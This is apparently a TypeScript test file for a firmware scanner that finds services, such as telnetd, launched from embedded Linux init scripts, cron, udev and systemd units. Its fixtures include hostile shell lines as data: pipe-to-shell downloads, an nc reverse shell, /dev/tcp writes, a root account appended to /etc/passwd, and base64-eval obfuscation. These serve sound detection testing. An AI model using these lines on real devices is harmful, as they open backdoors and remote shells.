import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import type { CollectorContext } from '../../../model/collector.ts';
import { readServicePrograms } from '../../../model/service-program.ts';
import { type FixtureEntry, treeOf } from '../tree-fixture.ts';
import { collectServices } from './services.ts';

const table = new URL('../../../../catalogue/tables/services.tsv', import.meta.url);
const servicePrograms = readServicePrograms(readFileSync(table, 'utf8'));
const context = { tables: { servicePrograms }, needles: [] } as unknown as CollectorContext;
const elf = (text = ''): Uint8Array => new TextEncoder().encode(`\x7fELF\u0001\u0001\u0001\0${text}`);
const busybox: FixtureEntry = { target: '/bin/busybox' };
type Files = Readonly<Record<string, FixtureEntry>>;

const listed = (files: Files): readonly string[] =>
  collectServices(treeOf(files), context).map(
    ({ starts, name, protocol, at }) => `${starts} ${name} ${protocol ?? '-'} ${at.slice(at.indexOf('!') + 1)}`,
  );

/** A system that starts crond and what the text says. */
const system = (script: string, more: Files = {}): Files => ({
  '/bin/busybox': elf('BusyBox v1.37.0'),
  '/bin/sh': busybox,
  '/sbin/init': busybox,
  '/usr/sbin/telnetd': busybox,
  '/usr/sbin/crond': busybox,
  '/etc/inittab': '::sysinit:/etc/init.d/rcS\n',
  '/etc/init.d/rcS': `#!/bin/sh\ncrond\n${script}\n`,
  ...more,
});
const crond = 'boot crond - /etc/init.d/rcS:2';
const beside = (script: string, more: Files = {}): readonly string[] => listed(system(script, more)).filter((line) => line !== crond);

test('ordinary scripts leave no gap', () => {
  const script = [
    'mount -a; mkdir -p /tmp/x; PATH=/bin:/sbin; export PATH; umask 077',
    'x=$(cat /proc/cmdline | sed -e s/a/b/ | awk \'{ print $1 }\'); echo "$x $((1 + 2))" > /proc/sys/net/ipv4/ip_forward',
    'trap - INT; trap "" HUP; for i in 1 2 3; do echo $i; done; cp /etc/issue /tmp/issue; ls | while read f; do echo "$f"; done',
    'cat <<E\n$(date)\nE\n[ -f /etc/none ] && . /etc/none; start() { echo x; }; start; find /tmp -name x; (cd /tmp && tar xf a.tar)',
  ].join('\n');
  assert.deepEqual(beside(script), []);
});

const oneGap: readonly (readonly [name: string, script: string, more?: Files])[] = [
  ['$(echo tel)netd', '$(echo tel)netd -l /bin/sh'],
  ['$T', 'T=$(cat /etc/x)\n$T'],
  ['eval', 'eval "$(echo x | base64 -d)"'],
  ['sh', 'sh -c "$(cat /etc/x)"'],
  ['sh', 'echo dGVs | base64 -d | sh'],
  ['sh', 'sh <<E\ntelnetd\nE'],
  ['sh', 'sh < /etc/x'],
  ['sh', 'exec < /etc/x\nsh'],
  ['sh', 'wget -O- http://x/y | sh'],
  ['$l', 'while read l; do $l; done < /etc/x'],
  ['$1', 'set -- $(cat /etc/x)\n"$@"'],
  ['$s', 'for s in $(find /etc/init.d -name "S*"); do "$s" start; done'],
  ['xargs', 'echo -l | xargs telnetd'],
  ['find', 'find /etc -exec telnetd \\;'],
  ['awk', 'awk \'BEGIN{system("telnetd")}\''],
  ['awk', 'awk -f /etc/x.awk'],
  ['flock', 'flock /tmp/l telnetd'],
  ['chroot', 'chroot / telnetd'],
  ['watch', 'watch telnetd'],
  ['script', 'script -c telnetd'],
  ['alias', 'alias x=telnetd'],
  ['perl', "perl -e 'x'"],
  ['true', 'true() { :; }\ntrue'],
  ['cd', 'cd() { :; }\ncd /'],
  ['/dev/tcp', 'echo x > /dev/tcp/192.0.2.1/99'],
  ['nc (not followed)', 'nc 192.0.2.1 99 -e /bin/sh'],
  ['openssl', 'openssl s_server -accept 99'],
  ['crontab', 'echo x | crontab -'],
  ['y', 'wget -O /tmp/y http://x/y; /tmp/y'],
  ['my.conf', 'inetd /etc/my.conf'],
  ['echo', "echo 'x::0:0::/:/bin/sh' >> /etc/passwd"],
  ['sed', "sed -i 's/x//' /etc/shadow"],
  ['cp', 'cp /usr/share/p /etc/passwd'],
  ['chpasswd', 'echo root:x | chpasswd'],
  ['mount', 'mount --bind /usr/share/p /etc/passwd'],
  ['hotplug', 'echo /sbin/x > /proc/sys/kernel/hotplug'],
  ['S1', '/etc/S1', { '/etc/S1': '#!/usr/bin/lua\nx()\n' }],
  ['S1', '/etc/S1', { '/etc/S1': '#!/bin/sh\n\0telnetd\n' }],
  ['S1', '/etc/S1', { '/etc/S1': `#!/bin/sh\n${'#'.repeat(1 << 20)}\ntelnetd\n` }],
  ['.', '. /lib/functions.sh', { '/lib/functions.sh': '#\0' }],
  ['rcS', `for i in ${'a '.repeat(1000)}; do for j in ${'a '.repeat(1000)}; do :; done; done\ntelnetd`],
];

for (const [name, script, more] of oneGap) {
  test(`a gap: ${JSON.stringify(script.slice(0, 60))} ${Object.keys(more ?? {}).join()}`, () => {
    const found = beside(script, more);
    const line = `conditional ${name} - `;
    assert.ok(
      found.some((each) => each.startsWith(line)),
      found.join('\n'),
    );
    assert.ok(!found.some((each) => each.startsWith('boot telnetd')), found.join('\n'));
  });
}

const followed: readonly (readonly [line: string, script: string, more?: Files])[] = [
  ['boot telnetd telnet /etc/init.d/rcS:3', 'exec -a x busybox telnetd'],
  ['boot telnetd telnet /etc/init.d/rcS:3', 'x=$(telnetd)'],
  ['conditional telnetd telnet /etc/init.d/rcS:3', 'trap telnetd EXIT'],
  ['boot telnetd telnet /lib/lsb/init-functions:1', '. /lib/lsb/init-functions', { '/lib/lsb/init-functions': 'telnetd\n' }],
  ['boot camd - /etc/init.d/rcS:3', 'camd -D\necho', { '/usr/bin/camd': elf() }],
  ['boot foo - /etc/init.d/rcS:4', 'PATH=/opt/x:$PATH\nfoo -d', { '/opt/x/foo': elf() }],
  ['conditional foo - /etc/init.d/rcS:4', 'PATH=/opt/x:$HOME\nfoo -d', { '/opt/x/foo': elf() }],
  ['boot /opt/tar - /etc/init.d/rcS:3', '/opt/tar', { '/opt/tar': elf() }],
  ['boot dropbear ssh /etc/init.d/rcS:3', 'syslogd', { '/sbin/syslogd': { target: '/usr/sbin/dropbear' }, '/usr/sbin/dropbear': elf() }],
  ['on-demand telnetd telnet /etc/crontabs/root:1', '', { '/etc/crontabs/root': '* * * * * telnetd\n' }],
  ['on-demand telnetd telnet /etc/mdev.conf:1', '', { '/etc/mdev.conf': '.* 0:0 660 @telnetd\n' }],
  ['on-demand telnetd telnet /etc/udev/rules.d/1.rules:1', '', { '/etc/udev/rules.d/1.rules': 'RUN+="telnetd -l x"\n' }],
  ['on-demand telnetd telnet /usr/share/udhcpc/default.script:2', '', { '/usr/share/udhcpc/default.script': '#!/bin/sh\ntelnetd\n' }],
  ['on-demand telnetd telnet /etc/network/if-up.d/x:2', '', { '/etc/network/if-up.d/x': '#!/bin/sh\ntelnetd\n' }],
  ['on-demand telnetd telnet /etc/hotplug.d/usb/1:1', '', { '/etc/hotplug.d/usb/1': 'telnetd\n' }],
  ['conditional inittab - /etc/inittab', '', { '/etc/inittab': `::sysinit:/etc/init.d/rcS\n${'#\n'.repeat(1100)}` }],
  ['conditional init - /sbin/init', '', { '/sbin/init': elf('unheard of') }],
];

for (const [line, script, more] of followed) {
  test(`listed: ${line} for ${JSON.stringify(script)}`, () => {
    const found = beside(script, more);
    assert.ok(found.includes(line), found.join('\n'));
  });
}

test('systemd: commands before and after, drop-ins, scripts, generators', () => {
  const found = listed({
    '/lib/systemd/systemd': elf('systemd'),
    '/lib/systemd/system/a.service': '[Service]\nExecStartPre=/usr/sbin/telnetd\nExecStart=/usr/bin/go\n',
    '/etc/systemd/system/multi-user.target.wants/a.service': { target: '/lib/systemd/system/a.service' },
    '/etc/systemd/system/b.service.d/x.conf': '[Service]\nExecStart=/usr/sbin/telnetd -p 24\n',
    '/etc/systemd/system-generators/odd': elf(),
    '/usr/bin/go': '#!/bin/sh\nsnmpd\n',
    '/usr/sbin/telnetd': elf(),
  });
  for (const line of [
    'on-demand telnetd telnet /lib/systemd/system/a.service:2',
    'on-demand telnetd telnet /etc/systemd/system/b.service.d/x.conf:2',
    'on-demand snmpd snmp /usr/bin/go:2',
    'conditional odd - /etc/systemd/system-generators/odd',
  ])
    assert.ok(found.includes(line), found.join('\n'));
});

test('hostile nesting ends', () => {
  for (const script of [
    '$('.repeat(100_000),
    '`'.repeat(100_000),
    `cat <<E\n${'$('.repeat(100_000)}`,
    'x=$(a) '.repeat(50_000),
    '\n<<A\n$(b)\nA'.repeat(50_000),
  ])
    assert.ok(beside(script).length < 3000);
});

test('no init at all, and nothing found to start', () => {
  assert.deepEqual(listed({ '/bin/sh': elf(), '/etc/hostname': 'x' }), ['conditional init - /sbin/init']);
  assert.deepEqual(listed({ '/etc/hostname': 'x' }), ['conditional init - root.squashfs']);
});
